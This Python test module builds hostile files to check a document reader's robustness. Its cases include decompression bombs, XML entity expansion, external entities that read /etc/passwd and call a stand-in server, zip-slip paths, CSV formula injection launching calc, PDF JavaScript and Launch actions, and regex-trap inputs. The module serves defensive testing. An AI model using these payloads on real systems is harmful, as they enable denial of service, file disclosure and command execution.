"""Hostile files, made in code: what breaks parsers, fills memory, or asks for what it may not have.

``files(address)`` gives a name for the case, the file name and a function that makes the content;
``address`` is a server that must never be asked.  ``SLOW`` are left to
``tests.trials.hostile_files``.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import zipfile
import zlib

from tests.reading import made_files as made

MB = 1024 * 1024
#: Cases that take over half a second each.
SLOW = frozenset(
    """
    docx of empty paragraphs|docx bomb|docx bomb over the limit|xlsx bomb|html of many attributes
    html of links|html of short paragraphs|eml of one long header|feed of many entries
    csv of short rows|json of numbers|pdf packed nine times|pdf bomb|html of open tags
    html of open bold|html of tables in tables|zip bomb|gz bomb|zip with a file over the limit
    txt of wide characters|csv of wide characters|jsonl of wide characters
    json of wide characters|parquet that repeats one text
    """.strip()
    .replace("\n    ", "|")
    .split("|")
)

#: A valid file of each kind, to be broken.
VALID = {
    "txt": made.txt,
    "md": made.md,
    "csv": made.delimited,
    "tsv": lambda: made.delimited("\t"),
    "json": made.json_document,
    "jsonl": lambda: b'{"text": "It rained."}\n{"text": "It snowed."}\n',
    "html": made.html,
    "mhtml": made.mhtml,
    "pdf": made.pdf,
    "docx": made.docx,
    "odt": made.odt,
    "rtf": made.rtf,
    "eml": made.eml,
    "xlsx": made.xlsx,
    "parquet": made.parquet,
    "rss": made.rss,
    "zip": lambda: made.zipped({"a.txt": made.txt()}),
    "gz": lambda: gzip.compress(made.txt()),
}


def _flipped(data):
    out, chance = bytearray(data), random.Random(7)
    for _ in range(max(4, len(out) // 200)):
        out[chance.randrange(len(out))] ^= 1 << chance.randrange(8)
    return bytes(out)


BROKEN = {
    "empty": lambda data: b"",
    "of zeros": lambda data: b"\0" * 5000,
    "a program": lambda data: b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" * 400,
    "a picture": lambda data: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 20,
    "of noise": lambda data: random.Random(3).randbytes(20_000),
    "cut off": lambda data: data[: len(data) // 2],
    "with bits flipped": _flipped,
    "of lone surrogates": lambda data: b"\xed\xa0\x80\xed\xb0\x80" * 200,
    "of marks alone": lambda data: b"\xff\xfe\xef\xbb\xbf",
    "after a page of zeros": lambda data: b"\0" * 4096 + data,
    "twice over": lambda data: data + data,
}


def generic():
    """Yield each kind of file broken in each way."""
    for suffix, make in VALID.items():
        for how, broken in BROKEN.items():
            name = f"a.txt.{suffix}" if suffix == "gz" else f"a.{suffix}"
            yield f"{suffix} {how}", name, (lambda m=make, b=broken: b(m()))


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _with_part(data, name, content):
    """Return a zipped document with one of its parts replaced."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts[name] = content if isinstance(content, bytes) else content.encode()
    return made.zipped(parts)


def docx(body, head=""):
    content = f"{head}<w:document {W}><w:body>{body}</w:body></w:document>"
    return _with_part(made.docx(), "word/document.xml", content)


def odt(body, head=""):
    content = (
        f"{head}<office:document-content {OFFICE}><office:body><office:text>{body}"
        "</office:text></office:body></office:document-content>"
    )
    return _with_part(made.odt(), "content.xml", content)


SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def xlsx(rows, head="", dimension="A1:B2"):
    content = (
        f'{head}<worksheet {SHEET}><dimension ref="{dimension}"/><sheetData>{rows}</sheetData>'
        "</worksheet>"
    )
    return _with_part(made.xlsx(), "xl/worksheets/sheet1.xml", content)


def external(address):
    return (
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "{address}/e">'
        f'<!ENTITY % c SYSTEM "{address}/dtd"> %c;]>'
    )


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _zip_member(name, data=b"It rained.", attributes=0, flags=0, method=None, size=None):
    out = io.BytesIO()
    info = zipfile.ZipInfo(name)
    info.external_attr = attributes
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, data)
    made_zip = bytearray(out.getvalue())
    central = made_zip.rindex(b"PK\x01\x02")
    for place in (6, central + 8):
        struct.pack_into("<H", made_zip, place, flags)
    if method is not None:
        for place in (8, central + 10):
            struct.pack_into("<H", made_zip, place, method)
    if size is not None:
        for place in (22, central + 24):
            struct.pack_into("<I", made_zip, place, size)
    return bytes(made_zip)


def _nested(depth, data=b"It rained."):
    name = "a.txt"
    for _ in range(depth):
        data, name = made.zipped({name: data}), "a.zip"
    return data


def archives():
    zeros = b"\0" * (19 * MB)
    yield "zip bomb", "a.zip", lambda: made.zipped({f"{k}.txt": zeros for k in range(8)})
    yield "zip that lies on its size", "a.zip", lambda: _zip_member("a.txt", size=4_000_000_000)
    yield "zip that says less than it has", "a.zip", lambda: _zip_member("a.txt", size=3)
    for name in ("../../x.txt", "/etc/x.txt", "..\\..\\x.txt", "C:\\x.txt", "a/../../x.txt"):
        yield f"zip slip {name}", "a.zip", (lambda n=name: made.zipped({n: b"It rained."}))
    yield "zip in zip", "a.zip", lambda: _nested(2)
    yield "zip in zip in zip", "a.zip", lambda: _nested(3)
    yield "zip forty deep", "a.zip", lambda: _nested(40)
    yield (
        "zip of zips of zips",
        "a.zip",
        lambda: made.zipped({f"{k}.zip": _nested(2) for k in range(300)}),
    )
    yield (
        "zip of many files",
        "a.zip",
        lambda: made.zipped({f"{k}.txt": b"x" for k in range(6000)}),
    )
    yield "zip with a link", "a.zip", lambda: _zip_member("a.txt", b"/etc/passwd", 0o120777 << 16)
    yield "zip with a password", "a.zip", lambda: _zip_member("a.txt", flags=1)
    yield "zip of no known method", "a.zip", lambda: _zip_member("a.txt", method=99)
    yield "zip with a long name", "a.zip", lambda: made.zipped({"x" * 60_000 + ".txt": b"It."})
    yield (
        "zip with a name that speaks to the terminal",
        "a.zip",
        lambda: made.zipped({"\x1b]0;owned\x07\u202etxt.exe": b"It."}),
    )
    yield "zip of empty names", "a.zip", lambda: made.zipped({" ": b"x", ".txt": b"y", "/": b"z"})
    yield "zip of programs", "a.zip", lambda: made.zipped({"a.exe": b"MZ", "b.docx": b"MZ" * 99})
    yield (
        "zip of hidden files",
        "a.zip",
        lambda: made.zipped({"__MACOSX/a.txt": b"x", ".b.txt": b"y"}),
    )
    yield "zip with a file over the limit", "a.zip", lambda: made.zipped({"a.txt": b"x" * 51 * MB})
    yield "gz bomb", "a.txt.gz", lambda: gzip.compress(b"\0" * 300 * MB, 1)
    yield "gz of many parts", "a.txt.gz", lambda: gzip.compress(b"") * 200_000
    yield (
        "gz in gz in gz",
        "a.txt.gz.gz.gz",
        lambda: gzip.compress(gzip.compress(gzip.compress(b"x"))),
    )
    yield "gz with more behind", "a.txt.gz", lambda: gzip.compress(b"It rained.") + b"more" * 1000
    yield "gz of a tar", "a.tar.gz", lambda: gzip.compress(b"\0" * 10_240)


def documents(address):
    laughing = paragraph("&i;")
    yield "docx that laughs", "a.docx", lambda: docx(laughing, LAUGHS)
    yield (
        "docx with external entities",
        "a.docx",
        lambda: docx(paragraph("&a;&b;"), external(address)),
    )
    yield (
        "docx in UTF-16 with entities",
        "a.docx",
        lambda: _with_part(
            made.docx(),
            "word/document.xml",
            f"{LAUGHS}<w:document {W}><w:body>{laughing}</w:body></w:document>".encode("utf-16"),
        ),
    )
    yield (
        "docx with a picture elsewhere",
        "a.docx",
        lambda: _with_part(
            made.docx(),
            "word/_rels/document.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="x/image" Target="{address}/i" TargetMode="External"/>'
            '<Relationship Id="rId2" Type="x/attachedTemplate" Target="file:///etc/passwd" '
            'TargetMode="External"/></Relationships>',
        ),
    )
    yield (
        "docx nested deep",
        "a.docx",
        lambda: docx("<w:p><w:r>" * 20_000 + "</w:r></w:p>" * 20_000),
    )
    yield "docx of empty paragraphs", "a.docx", lambda: docx("<w:p/>" * 300_000)
    yield "docx of one long word", "a.docx", lambda: docx(paragraph("x" * 3 * MB))
    yield "docx bomb", "a.docx", lambda: docx(paragraph(" " * 98 * MB))
    yield "docx bomb over the limit", "a.docx", lambda: docx(paragraph(" " * 120 * MB))
    yield "docx of nothing", "a.docx", lambda: made.zipped({})
    yield "docx that is an odt", "a.docx", made.odt
    yield (
        "docx without its document",
        "a.docx",
        lambda: made.zipped({"[Content_Types].xml": b"<a/>"}),
    )
    yield "odt that laughs", "a.odt", lambda: odt("<text:p>&i;</text:p>", LAUGHS)
    yield (
        "odt with external entities",
        "a.odt",
        lambda: odt("<text:p>&a;&b;</text:p>", external(address)),
    )
    yield (
        "odt nested deep",
        "a.odt",
        lambda: odt("<text:p>" + "<text:span>" * 9000 + "x" + "</text:span>" * 9000 + "</text:p>"),
    )
    yield "odt of blanks", "a.odt", lambda: odt('<text:p><text:s text:c="2000000000"/>x</text:p>')
    yield "odt that is a docx", "a.odt", made.docx
    yield "rtf nested deep", "a.rtf", lambda: b"{\\rtf1 " + b"{" * 200_000 + b"x" + b"}" * 200_000
    yield "rtf unbalanced", "a.rtf", lambda: b"{\\rtf1 It rained." + b"}" * 200_000
    yield (
        "rtf of odd characters",
        "a.rtf",
        lambda: b"{\\rtf1 \\u999999999? \\u-1? \\'zz \\bin9999999 x}",
    )
    yield "rtf of controls", "a.rtf", lambda: b"{\\rtf1 " + b"\\b\\i0\\par" * 100_000 + b"}"
    yield (
        "rtf with an object",
        "a.rtf",
        lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 4d5a}}It rained.}",
    )
    yield "rtf of backslashes", "a.rtf", lambda: b"{\\rtf1 " + b"\\" * 500_000


def workbooks(address):
    cell = '<c r="A1" t="inlineStr"><is><t>{}</t></is></c>'
    yield "xlsx that laughs", "a.xlsx", lambda: xlsx(f"<row>{cell.format('&i;')}</row>", LAUGHS)
    yield (
        "xlsx with external entities",
        "a.xlsx",
        lambda: xlsx(f"<row>{cell.format('&b;')}</row>", external(address)),
    )
    yield "xlsx that lies on its size", "a.xlsx", lambda: xlsx("<row/>", dimension="A1:XFD1048576")
    yield "xlsx of empty rows", "a.xlsx", lambda: xlsx("<row/>" * 200_000)
    yield (
        "xlsx with a far cell",
        "a.xlsx",
        lambda: xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    )
    yield (
        "xlsx with a wrong string",
        "a.xlsx",
        lambda: xlsx('<row><c r="A1" t="s"><v>99999</v></c></row>'),
    )
    yield (
        "xlsx with a huge number",
        "a.xlsx",
        lambda: xlsx(f'<row><c r="A1"><v>1e{"9" * 400}</v></c></row>'),
    )
    yield "xlsx that is a docx", "a.xlsx", made.docx
    yield (
        "xlsx of many columns",
        "a.xlsx",
        lambda: made.xlsx([[f"c{k}" for k in range(5000)], ["x"] * 5000]),
    )
    yield (
        "xlsx of formulas",
        "a.xlsx",
        lambda: made.xlsx([["text"], ['=WEBSERVICE("http://x")'], ["=1+1"]]),
    )
    yield (
        "xlsx bomb",
        "a.xlsx",
        lambda: xlsx(f"<row>{cell.format(' ' * 98 * MB)}</row>"),
    )
    yield (
        "csv of a million columns",
        "a.csv",
        lambda: ",".join(f"c{k}" for k in range(1_000_000)).encode() + b"\n1,2\n",
    )
    yield (
        "csv of 200,000 names",
        "a.csv",
        lambda: ";".join(f"column {k}" for k in range(200_000)).encode() + b"\nx\n",
    )
    yield "csv of one cell", "a.csv", lambda: b"text\n" + b"word " * 900_000
    yield "csv with an open quote", "a.csv", lambda: b'text\n"' + b"word\n" * 900_000
    yield "csv of quotes", "a.csv", lambda: b"text\n" + b'"' * 2_000_001
    yield "csv with zeros", "a.csv", lambda: b"te\0xt\nIt\0 rained.\n"
    yield "csv of short rows", "a.csv", lambda: b"text\n" + b"a\n" * 60_000
    yield "csv of formulas", "a.csv", lambda: b"text,outlet\n=cmd|' /C calc'!A0,@SUM(1)\n"
    yield (
        "csv of one name many times",
        "a.csv",
        lambda: b"text," * 1500 + b"text\n" + b"x," * 1500 + b"x\n",
    )
    yield (
        "parquet that is cut in its foot",
        "a.parquet",
        lambda: made.parquet()[:-9] + b"\xff" * 4 + b"PAR1",
    )
    yield (
        "parquet with a wild foot",
        "a.parquet",
        lambda: b"PAR1" + b"\xff" * 5000 + b"\x88\x13\0\0PAR1",
    )
    yield "parquet that repeats one text", "a.parquet", _repeated


def _repeated():
    import pandas as pd

    out = io.BytesIO()
    pd.DataFrame({"text": ["x" * 900_000] * 2000}).to_parquet(out)
    return out.getvalue()


def _pdf(*objects):
    return made.of_objects([o if isinstance(o, bytes) else o.encode() for o in objects])


CATALOGUE = "<< /Type /Catalog /Pages 2 0 R >>"


def _stream(data, extra=b""):
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def portable(address):
    script = f"/OpenAction << /S /JavaScript /JS (app.launchURL('{address}/js')) >>"
    yield "pdf with a script", "a.pdf", lambda: made.pdf(extra=script)
    yield (
        "pdf that launches",
        "a.pdf",
        lambda: made.pdf(extra=f"/OpenAction << /S /Launch /F (calc.exe) >> /URI ({address}/u)"),
    )
    yield (
        "pdf whose pages loop",
        "a.pdf",
        lambda: _pdf(CATALOGUE, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    )
    yield (
        "pdf whose pages loop in two",
        "a.pdf",
        lambda: _pdf(
            CATALOGUE,
            "<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>",
            "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
        ),
    )
    yield (
        "pdf that says a billion pages",
        "a.pdf",
        lambda: made.pdf().replace(b"/Count 1", b"/Count 999999999"),
    )
    yield "pdf of 400 pages", "a.pdf", lambda: made.pdf(pages=400)
    yield (
        "pdf whose table loops",
        "a.pdf",
        lambda: made.pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9"),
    )
    yield (
        "pdf whose form shows itself",
        "a.pdf",
        lambda: _pdf(
            CATALOGUE,
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources 5 0 R >>",
            _stream(b"/X Do"),
            "<< /XObject << /X 6 0 R >> >>",
            _stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /Resources 5 0 R"),
        ),
    )
    yield (
        "pdf bomb",
        "a.pdf",
        lambda: _pdf(
            CATALOGUE,
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            _stream(zlib.compress(b"(x) Tj " * 40_000_000, 1), b"/Filter /FlateDecode"),
        ),
    )
    yield (
        "pdf packed nine times",
        "a.pdf",
        lambda: _pdf(
            CATALOGUE,
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            _stream(_packed(9), b"/Filter [" + b"/FlateDecode " * 9 + b"]"),
        ),
    )
    yield (
        "pdf with a wild predictor",
        "a.pdf",
        lambda: _pdf(
            CATALOGUE,
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            _stream(
                zlib.compress(b"\1" * 1000),
                b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 999999999 >>",
            ),
        ),
    )
    yield "pdf nested deep", "a.pdf", lambda: _pdf(CATALOGUE, "[" * 50_000 + "]" * 50_000)
    yield "pdf whose object is itself", "a.pdf", lambda: _pdf(CATALOGUE, "2 0 R")
    yield (
        "pdf whose length is itself",
        "a.pdf",
        lambda: _pdf(CATALOGUE, "<< /Length 2 0 R >>\nstream\n"),
    )
    yield "pdf of nothing", "a.pdf", lambda: b"%PDF-1.7\n%%EOF"
    yield "pdf without its table", "a.pdf", lambda: made.pdf().split(b"xref")[0]
    yield (
        "pdf that is locked",
        "a.pdf",
        lambda: made.pdf().replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 /O () /U () /P -1 >>",
        ),
    )
    yield "pdf of many operators", "a.pdf", lambda: _pdf(
        CATALOGUE,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
        _stream(b"BT " + b"1 0 0 1 0 0 cm q Q " * 200_000 + b"ET"),
    )  # fmt: skip


def _packed(times):
    data = b"\0" * 200 * MB
    for _ in range(times):
        data = zlib.compress(data, 6)
    return data


def pages(address):
    def page(body, head=""):
        return f"<html><head>{head}</head><body>{body}</body></html>".encode()

    yield "html of open tags", "a.html", lambda: b"<div>" * 2_000_000
    yield "html of open bold", "a.html", lambda: b"<p>" + b"<b>" * 3_000_000
    yield "html of tables in tables", "a.html", lambda: b"<table><tr><td>" * 300_000
    yield (
        "html of one attribute",
        "a.html",
        lambda: page(f'<p title="{"x" * 5 * MB}">It rained.</p>'),
    )
    yield (
        "html of many attributes",
        "a.html",
        lambda: page(f"<p {' '.join(f'a{k}=1' for k in range(300_000))}>It rained.</p>"),
    )
    yield "html of links", "a.html", lambda: page("<a href='/x'>word</a> " * 100_000)
    yield "html of short paragraphs", "a.html", lambda: page("<p>It rained on us.</p>" * 60_000)
    yield "html of entities", "a.html", lambda: page("&amp;amp;" * 400_000)
    yield (
        "html of an open comment",
        "a.html",
        lambda: b"<p>It rained.</p><!--" + b"<!-- -" * 500_000,
    )
    yield "html of a long script", "a.html", lambda: page("<script>" + "x=1;" * 2_000_000)
    yield (
        "html with deep JSON-LD",
        "a.html",
        lambda: page("<p>It.", f'<script type="application/ld+json">{"[" * 400_000}</script>'),
    )
    yield (
        "html with wide JSON-LD",
        "a.html",
        lambda: page(
            "<p>It.",
            '<script type="application/ld+json">'
            + json.dumps([{"@type": "Article", "headline": ["x"] * 9}] * 20_000)
            + "</script>",
        ),
    )
    yield (
        "html with odd JSON-LD",
        "a.html",
        lambda: page(
            "<p>It rained.",
            '<script type="application/ld+json">{"@type": ["NewsArticle"], "headline": {"a": 1}, '
            '"author": [[["x"]]], "datePublished": 7, "publisher": null, "url": 5}</script>',
        ),
    )
    yield (
        "html that asks elsewhere",
        "a.html",
        lambda: page(
            f"<img src='{address}/i'><iframe src='{address}/f'></iframe><p>It rained.</p>"
            f"<script src='{address}/s'></script><object data='file:///etc/passwd'></object>",
            f"<base href='{address}/'><link rel=stylesheet href='{address}/c'>"
            f"<meta http-equiv=refresh content='0;url={address}/r'>",
        ),
    )
    yield (
        "html with entities of its own",
        "a.html",
        lambda: external(address).encode() + b"<p>&a; &b;</p>",
    )
    yield (
        "html as xml that includes",
        "a.html",
        lambda: (
            b'<?xml version="1.0" encoding="utf-7"?><html '
            b'xmlns:xi="http://www.w3.org/2001/XInclude"><body><p>It rained.</p>'
            b'<xi:include href="file:///etc/passwd" parse="text"/></body></html>'
        ),
    )
    yield (
        "html of a false charset",
        "a.html",
        lambda: page("<p>It rained.", "<meta charset=utf-16>"),
    )
    yield (
        "html of an unknown charset",
        "a.html",
        lambda: page("<p>It rained.", "<meta charset=x-evil>"),
    )
    yield "html of one long word", "a.html", lambda: page("<p>" + "x" * 4 * MB)
    yield (
        "html that tries to run",
        "a.html",
        lambda: page("<p onclick=alert(1)>It rained.<script>alert(1)</script>"),
    )
    yield "html of frames", "a.html", lambda: b"<frameset>" * 100_000
    yield "html of headings", "a.html", lambda: page("<h1>" * 50_000 + "x")
    yield (
        "mhtml of nothing",
        "a.mhtml",
        lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n",
    )
    yield (
        "feed that laughs",
        "a.rss",
        lambda: f"{LAUGHS}<rss><channel><item><title>&i;</title></item></channel></rss>".encode(),
    )
    yield (
        "feed with external entities",
        "a.xml",
        lambda: (
            f"{external(address)}<rss><channel><item><title>&a;&b;</title></item></channel></rss>".encode()
        ),
    )
    yield "feed nested deep", "a.rss", lambda: b"<rss>" + b"<item>" * 100_000
    yield (
        "feed of many entries",
        "a.rss",
        lambda: b"<rss><channel>" + b"<item><title>a</title></item>" * 20_000,
    )
    yield "feed of markup", "a.rss", lambda: (
        b"<rss><channel><item><description><![CDATA["
        + b"<div>" * 500_000
        + b"]]></description></item>"
    )  # fmt: skip


def mails():
    deep = "".join(
        f'Content-Type: multipart/mixed; boundary="b{k}"\n\n--b{k}\n' for k in range(400)
    )
    yield "eml nested deep", "a.eml", lambda: f"Subject: x\nMIME-Version: 1.0\n{deep}".encode()
    yield "eml of headers", "a.eml", lambda: b"X-A: b\n" * 100_000 + b"\nIt rained."
    yield (
        "eml of one long header",
        "a.eml",
        lambda: b"Subject: " + b"x " * 1_000_000 + b"\n\nIt rained.",
    )
    yield (
        "eml of folded addresses",
        "a.eml",
        lambda: b"To: " + b"<a@b>,(((" * 50_000 + b"\n\nIt rained.",
    )
    yield (
        "eml of a false subject",
        "a.eml",
        lambda: b"Subject: =?utf-8?b?" + b"A" * 100_000 + b"?=\n\nIt.",
    )
    yield (
        "eml of an unknown charset",
        "a.eml",
        lambda: b"Content-Type: text/plain; charset=evil\n\nIt rained.",
    )
    yield "eml of broken base64", "a.eml", lambda: b"Content-Transfer-Encoding: base64\n\n%%%=A=="
    yield (
        "eml of an odd day",
        "a.eml",
        lambda: b"Date: 99 Foo 99999999 99:99\nSubject: x\n\nIt rained.",
    )
    yield (
        "eml in eml",
        "a.eml",
        lambda: b"Subject: x\n" + b"Content-Type: message/rfc822\n\n" * 600 + b"It rained.",
    )
    yield (
        "eml that attaches a program",
        "a.eml",
        lambda: (
            b'Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nIt rained.\n--b\n'
            b'Content-Disposition: attachment; filename="../../\x1b[2Jx.exe"\n\nMZ\n--b--\n'
        ),
    )  # fmt: skip


def _wide_lines():
    line = json.dumps({"text": "word " * 20_000 + "\U0001f600"}, ensure_ascii=False) + "\n"
    return line.encode() * 480


def texts():
    yield "json nested deep", "a.json", lambda: b"[" * 1_000_000
    yield "json of objects", "a.json", lambda: b"[" + b"{}," * 2_000_000 + b"{}]"
    yield "json of numbers", "a.json", lambda: b"[" + b"1234567," * 1_000_000 + b"1]"
    yield "json of a long number", "a.json", lambda: b'[{"text": ' + b"9" * 1_000_000 + b"}]"
    yield "json of what is no number", "a.json", lambda: b'[{"text": NaN}, {"text": Infinity}]'
    yield "json of halves", "a.json", lambda: b'[{"text": "\\ud800 \\udfff", "title": "\\udc00"}]'
    yield "json of one key", "a.json", lambda: b'{"' + b"k" * 5_000_000 + b'": 1}'
    yield (
        "json of dates",
        "a.jsonl",
        lambda: b'{"text": "It.", "date": {"a": [1]}}\n{"text": "Is.", "date": 1e99}',
    )
    yield "jsonl nested deep", "a.jsonl", lambda: b"[" * 500_000 + b"\n" + b'{"a":' * 300_000
    yield "txt of one line", "a.txt", lambda: b"word " * 180_000
    yield "txt too long for an article", "a.txt", lambda: b"word " * 300_000
    yield "txt over the limit", "a.txt", lambda: b"x" * (50 * MB + 1)
    yield "txt of wide characters", "a.txt", lambda: "😀".encode() + b"word " * 9_800_000
    yield "csv of wide characters", "a.csv", lambda: "text\n😀".encode() + b"word, " * 8_000_000
    yield "jsonl of wide characters", "a.jsonl", lambda: _wide_lines()
    yield (
        "json of wide characters",
        "a.json",
        lambda: b"[" + _wide_lines().replace(b"\n", b",") + b"{}]",
    )
    yield "txt of line ends", "a.txt", lambda: b"\n" * 900_000 + b"It rained."
    yield "txt of blanks", "a.txt", lambda: b" \t" * 450_000 + b"x"
    for name, piece in REGEX_TRAPS.items():
        yield (
            f"txt of {name}",
            "a.txt",
            (lambda p=piece: (p * (900_000 // len(p.encode()))).encode()),
        )


#: Pieces that, repeated, make patterns of reading start over again and again.
REGEX_TRAPS = {
    "handles": "(@a) ",
    "signatures": "— A (@a) ",
    "dashes": "— ",
    "ages": "1 hour ago - ",
    "dates": "2024-11-18 ",
    "open quotes": "“",
    "heads": "title: ",
    "rules": "---\n",
    "escapes": "&amp;amp;",
    "equals": "=\n",
    "stars": "**a",
    "copyright": "© 2024 a ",
    "rights": "all rights reserved ",
    "share": "share ",
    "read more": "Read more: a\n",
    "capitals": "A B, ",
    "short lines": "a\n",
    "wide gaps": "a\n\n\n\n",
    "posts that break off": "a… — A (@a)\n",
    "headlines": "Cat found on buoy\n- 5 hours ago\n",
    "subscribe": "sign up for newsletter ",
    "brackets": "[a](",
    "mail ends": "End of Document\n",
    "documents": "Document AAAAAAAAAAAAAAAAAAAAAAAAA\n",
    "fields": "Title: a\nProQuest document ID: 1\n",
    "counters": "1 of 2 DOCUMENTS\nLENGTH: 5 words\n",
}


def files(address):
    """Yield (case, file name, function that makes the content)."""
    yield from generic()
    yield from archives()
    yield from documents(address)
    yield from workbooks(address)
    yield from portable(address)
    yield from pages(address)
    yield from mails()
    yield from texts()
